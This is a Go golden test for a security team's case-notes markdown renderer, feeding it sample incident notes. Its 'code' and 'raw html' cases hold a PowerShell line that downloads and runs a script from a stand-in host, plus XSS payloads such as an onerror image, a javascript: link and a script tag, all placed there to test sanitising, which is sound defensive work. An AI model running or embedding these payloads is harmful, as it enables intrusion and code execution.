package cases

import (
	"bytes"
	"encoding/json"
	"os"
	"path/filepath"
	"testing"
)

// Realistic case notes, rendered. The golden file was written by the
// bluemonday policy this package used before its own sanitiser
// (sanitize.go) replaced it, so a difference here is a change in what
// analysts see. VIGIL_UPDATE_GOLDEN=1 rewrites it.
var markdownCorpus = []struct{ name, in string }{
	{"triage", `# Phishing — finance mailbox

Reported by **J. Smith** (finance) at 09:14. The e-mail claims to be from
"NHS Payroll" & asks for a password reset at hxxps://nhs-payroll[.]co/reset.

## Indicators

| Type | Value | Seen |
|:-----|:-----:|-----:|
| domain | ` + "`nhs-payroll[.]co`" + ` | 3 |
| sender | payroll@nhs-payroll.co | 1 |
| hash | ` + "`44d88612fea8a8f36de82e1278abb02f`" + ` | 1 |

## Actions

- [x] Blocked the sender domain on the gateway
- [x] Pulled 14 copies from mailboxes
- [ ] Reset the two users who clicked
- [ ] Report to [NCSC](https://report.ncsc.gov.uk/ "Report a cyber incident")
`},
	{"timeline", `3. 10:02 EDR alert on WS-0421 (` + "`powershell -enc …`" + `)
4. 10:05 host isolated
5. 10:31 ~~re-imaged~~ held for forensics

> The user says they "only opened the invoice".
> Interview notes in the shared drive.

---

See <https://attack.mitre.org/techniques/T1059/001/> and www.cisa.gov/kev.
Contact soc@trust.nhs.uk or [the on-call lead](mailto:oncall@trust.nhs.uk).`},
	{"code", "Script found on the host:\n\n```powershell\n$u = \"http://198.51.100.7/a.ps1\"\nIEX (New-Object Net.WebClient).DownloadString($u) <# <script> #>\n```\n\nand inline `<img src=x onerror=alert(1)>` as text."},
	{"raw html", `Pasted from the alert: <b>URGENT</b> <a href="javascript:alert(1)">invoice</a>
<div onclick="x()">body</div>

<script>steal()</script>`},
	{"nested", `* Hosts
  * WS-0421 — _isolated_
  * WS-0388 — **cleared**, *no* persistence
    1. autoruns clean
    2. scheduled tasks clean
* Accounts: ` + "`CORP\\jsmith`" + ` & ` + "`CORP\\svc_backup`" + `

Escapes: \*not emphasis\*, 5 < 6 > 4, AT&T, &copy; &#169; &lt;tag&gt;`},
	{"links", `[relative](/cases/42) [anchor](#top) [ftp](ftp://files.example/x) [http](http://example.com/a?b=1&c=<2>)
[spaces](<https://example.com/a b>) [query](https://example.com/?q=a%20b&x=y#frag) [upper](HTTPS://EXAMPLE.COM/)
[mailto](mailto:a@b.example?subject=hi) https://example.com/auto?x=1&y=2 [img link](https://example.com)
![screenshot](https://example.com/s.png)`},
	{"headings", "Setext\n======\n\nSub\n---\n\n#### Four\n##### Five\n###### Six\n\nline one  \nline two\\\nline three"},
	{"table", "| left | centre | right | none |\n| :--- | :---: | ---: | --- |\n| a | **b** | `c` | [d](https://d.example) |\n| e \\| f | | | |"},
}

func TestMarkdownGolden(t *testing.T) {
	path := filepath.Join("testdata", "markdown", "golden.json")
	got := map[string]string{}
	for _, c := range markdownCorpus {
		got[c.name] = RenderMarkdown(c.in)
	}
	if os.Getenv("VIGIL_UPDATE_GOLDEN") == "1" {
		var b bytes.Buffer
		enc := json.NewEncoder(&b)
		enc.SetEscapeHTML(false)
		enc.SetIndent("", "  ")
		if err := enc.Encode(got); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, b.Bytes(), 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	want := map[string]string{}
	if err := json.Unmarshal(b, &want); err != nil {
		t.Fatal(err)
	}
	if len(want) != len(markdownCorpus) {
		t.Fatalf("golden file has %d notes, the corpus %d", len(want), len(markdownCorpus))
	}
	for _, c := range markdownCorpus {
		if got[c.name] != want[c.name] {
			t.Errorf("%s:\n got %s\nwant %s", c.name, got[c.name], want[c.name])
		}
	}
}
